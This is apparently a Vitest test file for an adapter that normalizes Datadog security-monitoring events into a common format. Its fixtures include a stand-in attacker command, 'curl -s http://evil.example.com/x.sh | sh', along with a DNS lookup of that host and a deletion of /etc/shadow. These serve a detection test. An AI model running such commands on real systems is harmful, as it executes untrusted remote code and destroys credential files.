import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { createDatadogAdapter } from "./datadog";
import type { NormalizedEvent } from "./types";

const NOW = new Date("2026-01-02T03:04:05.000Z");
const adapt = createDatadogAdapter(() => NOW);
const CORPUS = path.join(__dirname, "../../test-fixtures/corpus/datadog-csm");

function one(item: unknown): NormalizedEvent {
  const r = adapt(item);
  if (!r.ok) throw new Error(r.error);
  expect(r.events).toHaveLength(1);
  return r.events[0];
}

function without(obj: Record<string, unknown>, ...keys: string[]): Record<string, unknown> {
  return Object.fromEntries(Object.entries(obj).filter(([k]) => !keys.includes(k)));
}

function corpus(name: string): unknown {
  return JSON.parse(fs.readFileSync(path.join(CORPUS, name), "utf8"));
}

// Seed 001 is a JSON schema with no sample events; these follow its properties field by field.
const seedProcess = {
  pid: 4242, ppid: 4200, tid: 4242, uid: 1000, gid: 1000, user: "app", group: "app", comm: "curl", tty: "pts0",
  fork_time: "2024-05-01T10:00:00.100Z", exec_time: "2024-05-01T10:00:00.200Z",
  credentials: { uid: 1000, user: "app", gid: 1000, euid: 1000, egid: 1000, fsuid: 1000, fsgid: 1000, auid: 1000, cap_effective: [], cap_permitted: [] },
  executable: { path: "/usr/bin/curl", name: "curl", uid: 0, gid: 0, hashes: ["sha256:abc"] },
  container: { id: "c0ffee", created_at: "2024-05-01T09:00:00Z" },
  argv0: "curl", args: ["-s", "http://evil.example.com/x.sh"], envs: ["PATH=/usr/bin"],
  parent: {
    pid: 4200, ppid: 1, uid: 1000, gid: 1000, comm: "bash", executable: { path: "/bin/bash", name: "bash", uid: 0, gid: 0 },
    argv0: "bash", args: ["-c", "curl -s http://evil.example.com/x.sh | sh"], exec_time: "2024-05-01T09:59:00Z",
  },
  ancestors: [
    { pid: 4200, ppid: 1, uid: 1000, gid: 1000, comm: "bash", executable: { path: "/bin/bash", name: "bash", uid: 0, gid: 0 }, argv0: "bash", args: ["-c", "curl -s http://evil.example.com/x.sh | sh"] },
    { pid: 1, uid: 0, gid: 0, comm: "systemd", executable: { path: "/sbin/init", name: "init", uid: 0, gid: 0 } },
  ],
  truncated_ancestors: false,
};

const seedDetection = {
  agent: {
    rule_id: "suspicious_curl_pipe_shell", rule_version: "1", policy_name: "default", policy_version: "42",
    version: "7.54.0", os: "linux", arch: "x86_64", origin: "ebpf", rule_actions: [],
  },
  title: "Curl piped into a shell",
  evt: { name: "exec", category: "Process Activity", outcome: "Success", async: false },
  date: "2024-05-01T10:00:00.250Z",
  file: { path: "/usr/bin/curl", name: "curl", uid: 0, gid: 0, modification_time: "2024-01-01T00:00:00Z" },
  process: seedProcess,
  container: { id: "c0ffee" },
  cgroup: { id: "/kubepods/abc", manager: "systemd" },
  dd: { span_id: "1", trace_id: "2" },
  usr: { id: "app", group: "app" },
  hostname: "node-a",
  tags: ["kube_cluster_name:prod", "kube_namespace:shop", "pod_name:web-1", "container_name:web", "image_name:nginx", "image_tag:1.25", "technique:T1059.004"],
};

describe("adaptDatadog — schema-shaped events (seed 001)", () => {
  it("maps an enveloped exec detection with its whole process lineage", () => {
    const e = one(seedDetection);
    expect(e).toMatchObject({
      occurredAt: "2024-05-01T10:00:00.250Z", kind: "detections", type: "suspicious_curl_pipe_shell",
      severity: "medium", title: "Curl piped into a shell", action: "audit", outcome: "success", policyName: "default",
      file: { path: "/usr/bin/curl", operation: "exec" },
    });
    expect(e.process).toEqual({
      exe: "/usr/bin/curl", comm: "curl", args: "curl -s http://evil.example.com/x.sh", pid: 4242, ppid: 4200,
      uid: 1000, user: "app", start: "2024-05-01T10:00:00.200Z",
    });
    expect(e.parent).toMatchObject({ exe: "/bin/bash", pid: 4200, ppid: 1, args: "bash -c curl -s http://evil.example.com/x.sh | sh" });
    expect(e.ancestors?.map((a) => a.pid)).toEqual([4200, 1]);
    expect(e.agent).toEqual({
      version: "7.54.0", os: "linux", arch: "x86_64", hostname: "node-a", cluster: "prod", namespace: "shop",
      pod: "web-1", container: "web", image: "nginx:1.25",
    });
    expect(e.flags).toEqual(["container", "mitre:T1059.004"]);
  });

  it("accepts the same event without the agent/title envelope as an info", () => {
    const e = one(without(seedDetection, "agent", "title"));
    expect(e).toMatchObject({ kind: "infos", type: "process_exec", severity: "low", title: "exec /usr/bin/curl" });
    expect(e.action).toBeUndefined();
  });

  it("maps a DNS request to a flow with the queried domain", () => {
    const e = one({
      evt: { name: "dns", category: "Network Activity", outcome: "Success" },
      date: "2024-05-01T10:00:01Z",
      process: seedProcess,
      network: {
        device: { netns: 4026531840, ifindex: 2, ifname: "eth0" }, l3_protocol: "IPv4", l4_protocol: "UDP",
        source: { ip: "10.0.0.5", port: 40000 }, destination: { ip: "10.96.0.10", port: 53 }, size: 64,
      },
      dns: { id: 7, question: { class: "CLASS_INET", type: "A", name: "evil.example.com", size: 34, count: 1 } },
    });
    expect(e).toMatchObject({ kind: "flows", type: "dns_query", domain: "evil.example.com", title: "dns evil.example.com" });
    expect(e.flow).toEqual({
      protocol: "udp", ipVersion: 4, local: { address: "10.0.0.5", port: 40000 },
      remote: { address: "10.96.0.10", port: 53 }, direction: "egress",
    });
  });

  it("maps connect, accept and bind addresses", () => {
    const connect = one({ evt: { name: "connect" }, date: "2024-05-01T10:00:02Z", connect: { addr: { family: "AF_INET6", ip: "2001:db8::1", port: 443 } } });
    expect(connect).toMatchObject({ kind: "flows", type: "flow", flow: { ipVersion: 6, remote: { address: "2001:db8::1", port: 443 }, direction: "egress" } });
    const accept = one({ evt: { name: "accept" }, date: "2024-05-01T10:00:02Z", accept: { addr: { family: "AF_INET", ip: "10.1.1.1", port: 5555 } } });
    expect(accept.flow).toMatchObject({ remote: { address: "10.1.1.1" }, direction: "ingress" });
    const bind = one({ evt: { name: "bind" }, date: "2024-05-01T10:00:02Z", bind: { addr: { family: "AF_INET", ip: "0.0.0.0", port: 8080 } } });
    expect(bind).toMatchObject({ type: "socket_bind", flow: { local: { address: "0.0.0.0", port: 8080 } } });
  });

  it("maps file events: unlink is a remove, rename keeps its destination", () => {
    const base = { date: "2024-05-01T10:00:03Z", process: seedProcess };
    const unlink = one({ ...base, evt: { name: "unlink", outcome: "Success" }, file: { path: "/etc/shadow", uid: 0, gid: 0, flags: ["AT_REMOVEDIR"] } });
    expect(unlink).toMatchObject({ type: "file_unlink", file: { path: "/etc/shadow", operation: "remove", flags: "AT_REMOVEDIR" } });
    const rename = one({ ...base, evt: { name: "rename" }, file: { path: "/tmp/a", uid: 0, gid: 0, destination: { path: "/usr/bin/a", uid: 0, gid: 0 } } });
    expect(rename.file).toEqual({ path: "/tmp/a", operation: "rename", targetPath: "/usr/bin/a" });
    const chmod = one({ ...base, evt: { name: "chmod" }, file: { path: "/tmp/a", uid: 0, gid: 0 } });
    expect(chmod.type).toBe("file_chmod");
  });

  it("rates a refused attempt on a rule high, and a kill by the agent high with the killed flag", () => {
    const refused = one({ ...seedDetection, evt: { name: "open", outcome: "Refused" } });
    expect(refused).toMatchObject({ severity: "high", outcome: "denied", action: "audit" });
    const killedEvent = one({
      ...seedDetection,
      agent: { ...seedDetection.agent, rule_actions: [{ type: "kill", signal: "SIGKILL", scope: "process", status: "performed" }] },
    });
    expect(killedEvent).toMatchObject({ severity: "high", action: "kill" });
    expect(killedEvent.flags).toContain("killed");
  });

  it("keeps agent bookkeeping events out of detections", () => {
    const e = one({ agent: { rule_id: "ruleset_loaded" }, title: "Ruleset loaded", date: "2024-05-01T10:00:00Z" });
    expect(e).toMatchObject({ kind: "infos", type: "ruleset_loaded", severity: "low", title: "Ruleset loaded" });
  });

  it("unwraps a Logs API row and takes its id, host and timestamp", () => {
    const event = without(seedDetection, "date", "hostname", "tags");
    const e = one({ id: "AQAAAYx", attributes: { timestamp: "2024-05-01T10:00:09Z", host: "node-b", tags: ["pod_name:web-2"], attributes: event } });
    expect(e).toMatchObject({ sourceId: "AQAAAYx", occurredAt: "2024-05-01T10:00:09.000Z", agent: { hostname: "node-b", pod: "web-2" } });
  });

  it("uses the latest embedded real time when `date` is Go's zero time", () => {
    const e = one({ ...seedDetection, date: "0001-01-01T00:00:00Z" });
    expect(e.occurredAt).toBe("2024-05-01T10:00:00.200Z");
    expect(e.flags).not.toContain("time:received");
  });
});

describe("adaptDatadog — corpus (datadog-csm)", () => {
  const files = fs.readdirSync(CORPUS).filter((f) => f.endsWith(".json"));

  it("finds the corpus", () => {
    expect(files.length).toBe(3);
  });

  it.each(files)("accepts %s as a process_exec info stamped with the receive time", (file) => {
    const e = one(corpus(file));
    expect(e).toMatchObject({ kind: "infos", type: "process_exec", severity: "low", outcome: "success", agent: { container: "123" } });
    // The fixtures carry only Go's zero time and epoch-0 file times, so nothing real to use.
    expect(e.occurredAt).toBe(NOW.toISOString());
    expect(e.flags).toEqual(["container", "time:received"]);
    expect(e.parent?.pid).toBe(e.ancestors?.[0]?.pid);
    expect(e.process?.ppid).toBe(e.parent?.pid);
  });

  it("keeps six ancestors nearest-first for exec-25", () => {
    const e = one(corpus("exec-25_input_event.json"));
    expect(e.process).toMatchObject({ exe: "/uwsgi", comm: "uwsgi", args: "uwsgi", pid: 16, ppid: 15, uid: 0 });
    expect(e.parent).toMatchObject({ exe: "/utils", pid: 15 });
    expect(e.ancestors?.map((a) => [a.pid, a.exe])).toEqual([
      [15, "/utils"], [14, "/tools"], [13, "/ddtrace"], [12, "/bash"], [11, "/dash"], [1, "/bin/systemd"],
    ]);
    expect(e.ancestors?.map((a) => a.ppid)).toEqual([14, 13, 12, 11, 1, undefined]);
    expect(e.file).toEqual({ path: "/uwsgi", operation: "exec" });
  });

  it("maps exec-04_bis: ls under bash under systemd", () => {
    const e = one(corpus("exec-04_bis_input_event.json"));
    expect(e.title).toBe("exec /bin/ls");
    expect(e.ancestors?.map((a) => a.comm)).toEqual(["bash", "systemd"]);
  });
});

describe("adaptDatadog — unusable input", () => {
  it.each([
    [null, "got null"],
    [[], "got an array"],
    [42, "got number"],
    ["exec", "got string"],
    [{}, `missing "evt.name" and "agent.rule_id"`],
    [{ evt: "exec" }, `"evt" must be an object`],
    [{ evt: { name: 7 } }, `"evt.name" must be a string`],
    [{ agent: { rule_id: ["x"] } }, `"agent.rule_id" must be a string`],
    [{ evt: { name: "exec" }, date: 1714557600 }, `"date" must be an RFC 3339 string`],
    [{ evt: { name: "exec" }, process: "bash" }, `"process" must be an object`],
    [{ evt: { name: "exec" }, process: { ancestors: {} } }, `"process.ancestors" must be an array`],
    [{ evt: { name: "dns" }, network: [] }, `"network" must be an object`],
  ])("rejects %j without throwing", (item, message) => {
    const r = adapt(item);
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error).toContain(message);
  });

  it("tolerates odd values inside an otherwise usable event", () => {
    const e = one({ evt: { name: "exec" }, process: { pid: "x", args: [1, null, "a"], ancestors: [null, 3, { pid: 1 }] }, tags: 5 });
    expect(e.process).toEqual({ args: "a", ppid: 1 });
    expect(e.parent).toEqual({ pid: 1 });
    expect(e.ancestors).toEqual([{ pid: 1 }]);
  });
});
